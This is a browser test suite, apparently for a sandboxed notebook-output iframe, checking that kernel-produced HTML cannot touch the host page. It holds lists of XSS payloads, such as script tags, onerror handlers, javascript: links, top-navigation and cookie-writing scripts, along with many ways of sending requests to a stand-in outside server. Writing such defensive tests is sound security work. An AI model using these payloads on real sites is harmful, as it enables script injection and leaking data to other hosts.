"""Whatever a kernel sends, nothing of it runs in, restyles or reads the page around the cell."""

from __future__ import annotations

from tests.browser.sight import expect

HOSTILE = {
    "script": "<script>parent.document.title = 'owned'; top.owned = 1</script>",
    "handler": "<img src=x onerror=\"parent.owned = 1; parent.document.title = 'owned'\">",
    "javascript link": '<a id=a href="javascript:parent.owned=1">x</a><script>a.click()</script>',
    "svg script": '<svg onload="parent.owned = 1"><script>parent.owned = 1</script></svg>',
    "css that covers the page": "<style>body, html, single-cell { position: fixed; inset: 0; background: red }</style>",
    "top navigation": "<script>try { top.location = 'about:blank' } catch {}</script>",
    "top link": "<a id=a target=_top href='about:blank'>x</a><script>a.click()</script>",
    "form post": "<form id=f method=post target=_top action='/computations'></form><script>f.submit()</script>",
    "base": "<base href='https://example.org/' target=_top>",
    "meta refresh": '<meta http-equiv=refresh content="0;url=javascript:parent.owned=1">',
    "popup": "<script>window.open('about:blank')</script>",
    "dialog": "<script>alert(1); prompt(1)</script>",
    "frame": '<iframe srcdoc="<script>top.owned = 1</script>"></iframe>',
    "storage": "<script>try { localStorage.owned = 1; document.cookie = 'owned=1' } catch {}</script>",
    "break out of the text": "</script></body></html><script>parent.owned = 1</script>",
    "messages": "<script>parent.postMessage({ height: 1e9 }, '*'); parent.postMessage('owned', '*')</script>",
}


WITNESS = "<p id=witness>shown</p>"


def witness(cell, name: str | None = None) -> None:
    """Wait until the frame has shown what it was given, and what came of that has had its turn."""
    shown = cell.drawn.locator("#witness")
    expect(shown, name).to_be_visible()
    shown.evaluate("() => new Promise((done) => requestAnimationFrame(() => requestAnimationFrame(done)))")


def test_html_cannot_touch_the_page(embed, page):
    cell = embed("<h1>Mine</h1><single-cell linked></single-cell>")
    address = page.url
    box = page.locator("h1").bounding_box()
    for name, hostile in HOSTILE.items():
        cell.run(f"from IPython.display import HTML, display\ndisplay(HTML({hostile + WITNESS!r}))")
        expect(cell.output.locator("iframe"), name).to_have_attribute("sandbox", "allow-scripts")
        witness(cell, name)
        assert page.evaluate("[window.owned, localStorage.owned, document.cookie]") == [None, None, ""], name
        assert page.title() == "A page", name
        assert page.url == address, name
        assert page.locator("h1").bounding_box() == box, name
        assert len(page.context.pages) == 1, name
        assert page.locator("body").evaluate("body => getComputedStyle(body).position") == "static", name
        assert cell.output.locator("iframe").bounding_box()["height"] <= 4000, name


def test_scripts_in_a_frame_can_reach_no_server(embed, page, server):
    cell = embed("<single-cell></single-cell>")
    code = f"""
from IPython.display import HTML
HTML('''<p id=said></p><script>
const tries = [
  fetch("{server.url}/languages"),
  new Promise((resolve, reject) => {{ const image = new Image(); image.onload = resolve; image.onerror = reject;
    image.src = "{server.url}/static/x.png" }}),
  import("{server.url}/embedded_singlecell.js"),
];
Promise.allSettled(tries).then((all) => said.textContent = all.map((one) => one.status).join(" "));
</script>''')"""
    cell.run(code)
    said = cell.drawn.locator("#said")
    expect(said).to_have_text("rejected rejected rejected")


# Ways out of a document; X is the address of another server.
WAYS_OUT = """
<link rel=stylesheet href=X/1><link rel=prefetch href=X/2><link rel=preload as=script href=X/3>
<link rel=modulepreload href=X/4><link rel=manifest href=X/5><link rel=icon href=X/6>
<style>@import "X/7"; @font-face { font-family: f; src: url(X/8) } p { font-family: f; background: url(X/9) }</style>
<img src=X/10 srcset="X/11 2x"><video src=X/12 poster=X/13 autoplay></video><audio src=X/14 autoplay></audio>
<object data=X/15></object><embed src=X/16><iframe src=X/17></iframe><script src=X/18></script>
<iframe srcdoc="<img src=X/19><script>location = 'X/20'</script>"></iframe>
<svg><image href=X/21 /><use href=X/22#a /></svg><input type=image src=X/23><portal src=X/24></portal>
<form id=way action=X/25 target=_blank><input name=a></form><a id=ping href="#" ping=X/26>p</a>
<script type=module>import "X/27"</script>
<script>
const quietly = (act) => { try { Promise.resolve(act()).catch(() => {}) } catch {} };
quietly(() => fetch("X/28", { mode: "no-cors" })); quietly(() => navigator.sendBeacon("X/29", "a"));
quietly(() => { const r = new XMLHttpRequest(); r.open("GET", "X/30"); r.send() });
quietly(() => new EventSource("X/31")); quietly(() => new WebSocket("X/32".replace("http", "ws")));
quietly(() => import("X/33")); quietly(() => new Worker("X/34")); quietly(() => window.open("X/35"));
quietly(() => new Worker(URL.createObjectURL(new Blob(["fetch('X/36')"]))));
quietly(() => new FontFace("g", "url(X/37)").load()); quietly(() => document.getElementById("way").submit());
quietly(() => document.getElementById("ping").click()); quietly(() => { new Image().src = "X/38" });
quietly(() => { parent.location = "X/39" }); quietly(() => { top.location = "X/40" });
quietly(() => { const a = document.createElement("a"); a.href = "X/41"; a.target = "_top"; a.click() });
quietly(() => parent.postMessage({ need: "../../X", file: "a", text: "b", script: "X/43" }, "*"));
quietly(() => top.postMessage({ need: "X/44" }, "*"));
</script>
"""


def test_nothing_in_a_frame_reaches_another_server(embed, nobody_is_asked, page):
    cell = embed("<single-cell></single-cell>")
    cell.run(f"from IPython.display import HTML\nHTML({(WAYS_OUT + WITNESS).replace('X/', nobody_is_asked + '/')!r})")
    witness(cell)
    expect(cell.output.locator(".notice:not(.elsewhere)", has_text="another server")).to_have_count(1)
    expect(cell.output.locator(".elsewhere a")).to_have_text([f"{nobody_is_asked}/{way}" for way in (15, 16, 17)])
    assert len(page.context.pages) == 1 and page.title() == "A page"


LEAVES = {
    "location": "location = 'X/1'",
    "replace": "location.replace('X/2')",
    "link": "Object.assign(document.createElement('a'), { href: 'X/3' }).click()",
    "download": "Object.assign(document.createElement('a'), { href: 'X/9', download: 'a' }).click()",
    "form": "Object.assign(document.body.appendChild(document.createElement('form')), { action: 'X/4' }).submit()",
    "refresh": "document.head.innerHTML = '<meta http-equiv=refresh content=\"0;url=X/5\">'",
    "open": "window.open('X/6', '_self')",
    "frame around": "parent.location = 'X/7'; window.open('X/8', '_parent')",
}


def test_an_output_cannot_leave_for_another_server(embed, nobody_is_asked, page):
    cell = embed("<h1>Mine</h1><single-cell linked></single-cell>")
    for way, leaves in LEAVES.items():
        script = f"<script>{leaves.replace('X/', f'{nobody_is_asked}/')}</script>"
        cell.run(f"from IPython.display import HTML\nHTML({WITNESS!r} + {script!r})\n")
        # What the sandbox refuses, it refuses silently; what tried to leave is taken away.
        if way in ("form", "frame around"):
            witness(cell, way)
        else:
            expect(cell.output.locator(".notice"), way).to_have_text("This output could not be drawn.")
        expect(page.locator("h1"), way).to_be_visible()


def test_a_frame_that_floods_the_page_with_messages_is_stopped(embed):
    cell = embed("<single-cell></single-cell>")
    cell.run(
        "from IPython.display import HTML\n"
        "HTML('<script>setInterval(() => { for (let i = 0; i < 500; i++) '\n"
        "     'parent.postMessage({height: i}, \"*\") }, 10)</script>')"
    )
    expect(cell.output.locator(".notice")).to_contain_text("stopped")
    expect(cell.output.locator("iframe")).to_have_count(0)


def test_javascript_runs_in_the_frame_only(embed, page):
    cell = embed("<single-cell></single-cell>")
    cell.run("from IPython.display import Javascript\nJavascript(\"document.body.append('ran'); parent.owned = 1\")")
    expect(cell.drawn.locator("body")).to_contain_text("ran")
    assert page.evaluate("window.owned") is None


def test_html_in_other_types_cannot_touch_the_page(embed, page):
    cell = embed("<single-cell></single-cell>")
    hostile = "<svg xmlns='http://www.w3.org/2000/svg'><script>parent.owned = 1; window.owned = 1</script></svg>"
    shows = "\n".join(f"display({kind}({hostile!r}))" for kind in ("Markdown", "Latex", "SVG"))
    cell.run(f"from IPython.display import *\n{shows}\nprint('end')").shows("end")
    # Formulas and Markdown are typeset when their part has come; each of the three has one place.
    expect(cell.output.locator(".display > *")).to_have_count(3)
    expect(cell.output.locator(".display > :not(:empty), .display > img")).to_have_count(3)
    assert page.evaluate("window.owned") is None
    expect(cell.output.locator("svg, script")).to_have_count(0)


def test_text_of_any_kind_stays_text(embed, page):
    cell = embed("<single-cell></single-cell>")
    hostile = "<img src=x onerror=window.owned=1>"
    cell.run(f"text = {hostile!r}\nprint(text)\nprint(input(text))", state="running")
    cell.output.locator("input").press("Enter")
    cell.ends().run(f"raise Exception({hostile!r})")
    expect(cell.output.locator(".error-title")).to_contain_text("<img")
    assert page.evaluate("window.owned") is None
    expect(cell.output.locator("img")).to_have_count(0)


def test_links_in_html_are_offered_below_it_when_they_are_safe(embed, page):
    cell = embed("<single-cell></single-cell>")
    cell.run(
        "from IPython.display import HTML\n"
        'HTML(\'<a href="javascript:alert(1)">bad</a> <a href="https://example.org/a">good</a>\')'
    )
    frame = cell.drawn
    frame.get_by_text("bad").click()
    frame.get_by_text("good").click()
    offered = cell.output.locator(".notice a")
    expect(offered).to_have_text("https://example.org/a")
    expect(offered).to_have_attribute("rel", "noopener noreferrer nofollow")
    assert len(page.context.pages) == 1


def test_links_to_files_lead_nowhere_but_to_the_servers_files(embed):
    cell = embed("<single-cell></single-cell>")
    files = [
        {"name": "a", "size": 1, "type": "text/plain", "url": url}
        for url in (
            "javascript:alert(1)",
            "https://example.org/files/a",
            "/computations/x",
            "data:text/html,x",
            "//example.org/files/x",
        )
    ]
    cell.run(
        "from IPython.display import display\n"
        f"display({{'application/vnd.singlecell.files+json': {{'files': {files!r}}}}}, raw=True)\nprint('end')"
    ).shows("end")
    expect(cell.output.locator("a")).to_have_count(0)


def test_the_frames_page_does_nothing_when_it_is_opened_by_itself(server, page, embed):
    cell = embed("<single-cell>from IPython.display import HTML\nHTML('<b>x</b>')</single-cell>").run()
    address = cell.output.locator("iframe").get_attribute("src")
    page.goto(address)
    page.evaluate(
        """() => new Promise((done) => {
          addEventListener("message", done);
          window.postMessage({ type: "text/html", data: "<b>shown</b>" }, "*");
        })"""
    )
    expect(page.locator("b")).to_have_count(0)
